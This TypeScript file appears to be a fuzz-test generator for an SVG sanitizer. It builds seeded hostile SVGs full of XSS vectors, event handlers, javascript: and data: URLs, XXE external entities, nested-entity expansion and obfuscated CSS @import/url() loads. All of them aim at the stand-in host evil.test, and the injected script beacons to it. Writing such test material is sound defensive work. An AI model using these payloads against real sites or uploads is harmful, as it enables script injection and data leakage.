import { Random } from '../random.ts';
import { encoded, mangled } from './mangle.ts';

/** Every address that must never be asked for is of this host. */
const EVIL = 'http://evil.test';
/** What a script does that runs. */
const SCRIPT = `document.documentElement.setAttribute('data-ran','1');new Image().src='${EVIL}/ran'`;
const XHTML = 'http://www.w3.org/1999/xhtml';
const SVG = 'http://www.w3.org/2000/svg';
const XLINK = 'http://www.w3.org/1999/xlink';

/** An SVG that tries to run a script or to load something, the same for the same seed. */
export function hostileSvg(seed: number): Buffer {
  const random = new Random(seed);
  const parts = [
    prolog(random),
    `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" xmlns:h="${XHTML}" ${rootAttributes(random)}>`,
  ];
  parts.push(
    '<circle id="c" r="9" cx="9" cy="9"/>',
    ...Array.from({ length: 1 + random.below(4) }, () => attack(random)),
  );
  parts.push('</svg>', random.once(12) ? '<?xml-stylesheet href="data:text/css,*{}"?>' : '');
  const text = parts.join(random.once(4) ? '\n' : '');
  return encoded(random.once(8) ? mangled(text, random) : text, random);
}

function rootAttributes(random: Random): string {
  return random.one([
    'viewBox="0 0 20 20"',
    `viewBox="0 0 20 20" onload="${attribute(SCRIPT)}"`,
    `width="20" height="20" style="background:${loadingValue(random)}"`,
    'width="20" height="20" xmlns:s="http://www.w3.org/2000/svg"',
    `xml:base="${EVIL}/"`,
    `xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/" i:onload="${attribute(SCRIPT)}"`,
  ]);
}

function prolog(random: Random): string {
  const entities = random.one([
    `<!ENTITY x "&#60;script xmlns='${SVG}'>${attribute(SCRIPT)}&#60;/script>">`,
    `<!ENTITY x "${EVIL}/entity"><!ENTITY y "url(${EVIL}/y)">`,
    `<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY x "&b;&b;&b;"><!ENTITY y "red">`,
    `<!ENTITY x SYSTEM "${EVIL}/external.ent"><!ENTITY y "${EVIL}">`,
    `<!ENTITY % p SYSTEM "${EVIL}/external.dtd">%p;`,
    `<!ATTLIST circle onbegin CDATA "${attribute(SCRIPT)}"><!ATTLIST svg onload CDATA "${attribute(SCRIPT)}">`,
    `<!ATTLIST image xlink:href CDATA "${EVIL}/default">`,
    `<!-- ]> --><!ENTITY x "y">`,
  ]);
  return random.one([
    '',
    '',
    '<?xml version="1.0"?>',
    '<?xml version="1.1" standalone="yes"?>',
    `<?xml version="1.0"?><?xml-stylesheet href="${EVIL}/a.css"?>`,
    `<?xml-stylesheet type="text/xsl" href="${EVIL}/a.xsl"?>`,
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">',
    `<!DOCTYPE svg SYSTEM "${EVIL}/svg.dtd">`,
    `<!DOCTYPE svg [${entities}]>`,
    `<!DOCTYPE svg [${entities}]>`,
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${EVIL}/svg11.dtd" [${entities}]>`,
  ]);
}

/** A script by one of the ways in which there could be one, or an address by which something could be loaded. */
function attack(random: Random): string {
  return random.one([script, event, link, animation, style, styled, foreign, nested, hidden])(random);
}

function script(random: Random): string {
  const name = random.one(['script', 'script', 's:script', 'h:script', 'SCRIPT', 'handler', 'listener']);
  const head = random.one([
    '',
    ` href="${EVIL}/a.js"`,
    ` xlink:href="data:text/javascript,${attribute(SCRIPT)}"`,
    ' type="module"',
  ]);
  const prefix = name.startsWith('s:') ? ` xmlns:s="${SVG}"` : '';
  return `<${name}${prefix}${head}>${random.one([SCRIPT, `<![CDATA[${SCRIPT}]]>`, `<!-- -->${SCRIPT}`])}</${name}>`;
}

function event(random: Random): string {
  const name = random.one([
    'onload',
    'onbegin',
    'onfocus',
    'onmouseover',
    'onerror',
    'onactivate',
    'onclick',
    'ONLOAD',
    'onrepeat',
  ]);
  const element = random.one([
    'rect width="30" height="30"',
    'animate attributeName="x" dur="1s"',
    'image href="x"',
    'set',
    'style',
    'g',
  ]);
  return `<${element} ${name}="${attribute(SCRIPT)}" tabindex="0" autofocus=""/>`;
}

function link(random: Random): string {
  const element = random.one([
    'use',
    'image',
    'a',
    'feImage',
    'textPath',
    'pattern',
    'linearGradient',
    'mpath',
    'font-face-uri',
    'tref',
    'cursor',
    'g',
  ]);
  const name = random.one(['href', 'xlink:href', 'XLINK:HREF', 'src', 'l:href', 'xml:base', 'ping']);
  const address = random.one([
    `${EVIL}/a`,
    `//evil.test/a.svg#a`,
    ` \u00a0${EVIL}/b`,
    `\u00a0#a`,
    `java\nscript:${attribute(SCRIPT)}`,
    `javascript:${attribute(SCRIPT)}`,
    'other.svg#a',
    '&#104;ttp://evil.test/c',
    '&x;',
    '&#x2f;&#x2f;evil.test/d',
    `data:image/svg+xml,${attribute(`<svg xmlns='${SVG}' onload='${SCRIPT.replaceAll("'", '&apos;')}' id='a'><image href='${EVIL}/e'/></svg>`)}`,
    `data:text/html,${attribute(`<script>${SCRIPT}</script>`)}`,
  ]);
  const declaration = name.startsWith('l:') ? ` xmlns:l="${XLINK}"` : '';
  return `<filter id="f"><${element} ${name}="${address}"${declaration} width="9" height="9"/></filter><${element} ${name}="${address}"${declaration} width="9" height="9"><text y="9">a</text></${element}><rect width="9" height="9" filter="url(#f)"/>`;
}

function animation(random: Random): string {
  const element = random.one(['set', 'animate', 'animateTransform', 'animateMotion', 'discard', 'animateColor']);
  const target = random.one([
    'href',
    'xlink:href',
    'onload',
    'onclick',
    'fill',
    'style',
    'HREF',
    ' href',
    'filter',
    'mask',
  ]);
  const value = random.one([
    `${EVIL}/animated`,
    `javascript:${attribute(SCRIPT)}`,
    `url(${EVIL}/fill#a)`,
    attribute(SCRIPT),
  ]);
  const values = random.one([
    `to="${value}"`,
    `from="${value}" to="${value}" dur="9s"`,
    `values="${value};${value}" dur="9s"`,
  ]);
  const parent = random.one(['image width="9" height="9"', 'a', 'use', 'rect width="9" height="9"', 'feImage']);
  return `<${parent}><${element} attributeName="${target}" ${values} fill="freeze"/><text y="9">a</text></${parent.split(' ')[0]}>`;
}

function loadingValue(random: Random): string {
  const address = `${EVIL}/css${random.below(100)}`;
  return random.one([
    `url(${address})`,
    `url( ${address} )`,
    `url('${address}')`,
    `u\\72l(${address})`,
    `URL(${address}`,
    `url(//evil.test/css)`,
    `url(/**/${address})`,
    `ur/**/l(${address})`,
    `image-set('${address}' 1x)`,
    `-webkit-image-set(url(${address}) 1x)`,
    `cross-fade(url(${address}), url(#a))`,
    `src('${address}')`,
    `var(--a, url(${address}))`,
    '&y;',
  ]);
}

function css(random: Random): string {
  const address = `${EVIL}/sheet${random.below(100)}`;
  const value = loadingValue(random);
  return random.one([
    `@import '${address}';`,
    `@import url(${address}) all;`,
    `@\\69mport "${address}";`,
    `@import/**/"${address}";`,
    `<!-- @import "${address}"; -->`.replaceAll('<', '&lt;'),
    `@charset "x";@import "${address}";`,
    `@layer a;@import "${address}" layer(a);`,
    `@font-face{font-family:e;src:url(${address})}text{font-family:e}`,
    `@font-face{font-family:e;src:local(x),url(${address}) format("woff")}*{font-family:e}`,
    `*{fill:${value};background:${value}}`,
    `svg{cursor:${value};content:${value};mask:${value};list-style:${value};border-image:${value}}`,
    `circle{filter:${value};marker:${value};clip-path:${value}}`,
    `*{--a:${value};background:var(--a)}`,
    `@media all{svg{background-image:${value}}}`,
    `@supports (a:b) or (c:url(${address})){svg{background:${value}}}`,
    `a{b:c({;svg{background:${value}}`,
    `a{b:"\n;}svg{background:${value}}`,
    `svg::before{content:${value}}`,
    `@namespace url(${address});`,
    `@keyframes k{from{background:${value}}}svg{animation:k 1s}`,
    `svg{background:${value}`,
    `@x{}svg{&{background:${value}}}`,
    `\\}svg{background:${value}}`,
  ]);
}

function style(random: Random): string {
  const text = random.some(3, () => css(random)).join('');
  const at = random.below(text.length + 1);
  const between = random.one([
    '',
    '<!-- -->',
    '<g/>',
    '<title>a</title>',
    ']]><![CDATA[',
    '<?a?>',
    '&#x40;',
    '<s xmlns="">x</s>',
  ]);
  const split = text.slice(0, at) + between + text.slice(at);
  const isCdata = random.once(3) || between.startsWith(']');
  const body = isCdata
    ? `<![CDATA[${text.slice(0, at).replaceAll('&lt;', '<')}]]>${between.startsWith(']') ? '' : between}<![CDATA[${text.slice(at)}]]>`
    : split;
  return `<style${random.one(['', ' type="text/css"', ' type="text/x"', ' media="all"'])}>${body}</style>`;
}

function styled(random: Random): string {
  const value = loadingValue(random).replaceAll('"', "'");
  const name = random.one([
    'fill',
    'stroke',
    'filter',
    'mask',
    'clip-path',
    'marker-start',
    'cursor',
    'style',
    'style',
    'src',
  ]);
  const written = name === 'style' ? `fill:red;background:${value};mask:${value};stroke:blue` : value;
  return `<path d="M0 0h9v9" ${name}="${written}"/>`;
}

function foreign(random: Random): string {
  const inside = random.one([
    `<img xmlns="${XHTML}" src="${EVIL}/img" onerror="${attribute(SCRIPT)}"/>`,
    `<h:iframe src="javascript:${attribute(SCRIPT)}"/>`,
    `<h:link rel="stylesheet" href="${EVIL}/link"/>`,
    `<h:style>*{background:url(${EVIL}/style)}</h:style>`,
    `<h:video src="${EVIL}/video" autoplay=""/>`,
    `<h:object data="${EVIL}/object"/>`,
    `<h:base href="${EVIL}/"/>`,
    `<h:meta http-equiv="refresh" content="0;url=${EVIL}/refresh"/>`,
    `<h:body style="background:url(${EVIL}/body)" onload="${attribute(SCRIPT)}"/>`,
    `<h:input autofocus="" onfocus="${attribute(SCRIPT)}"/>`,
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="${EVIL}/math"><mtext/></math>`,
  ]);
  const around = random.one([
    'foreignObject width="99" height="99"',
    'desc',
    'title',
    'metadata',
    'switch',
    'g',
    'text',
    'style',
  ]);
  return `<${around}>${inside}</${around.split(' ')[0]}>`;
}

function nested(random: Random): string {
  const namespace = random.one([
    'http://ns.adobe.com/x/',
    'urn:x',
    '',
    SVG,
    XHTML,
    'http://www.inkscape.org/namespaces/inkscape',
  ]);
  const prefix = random.one(['', ':n']);
  const [name, inner] = prefix === '' ? ['g', 'script'] : ['n:g', random.one(['n:script', 'script', 's:script'])];
  return `<${name} xmlns${prefix}="${namespace}"><${inner} xmlns:s="${SVG}">${SCRIPT}</${inner}></${name}>`;
}

function hidden(random: Random): string {
  return random.one([
    `<!-- -\u001b(B-><script>${SCRIPT}</script><!-- -->`,
    `<!-- --\u001b(B><script>${SCRIPT}</script>`,
    `<text>\u00a0\u2028&x;&y;</text>`,
    `+ADw-script+AD4-${SCRIPT}+ADw-/script+AD4-`,
    `<text><![CDATA[<script>${SCRIPT}</script>]]></text>`,
    `<text>&#60;script>${attribute(SCRIPT)}&#60;/script></text>`,
    '<style>&commat;import "http://evil.test/commat";</style>',
    `<style>*{fill:url&lpar;${EVIL}/lpar&rpar;}</style>`,
    '<circle r="1" fill="&y;"/>',
    '<image width="9" height="9" href="&x;"/>',
  ]);
}

function attribute(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}
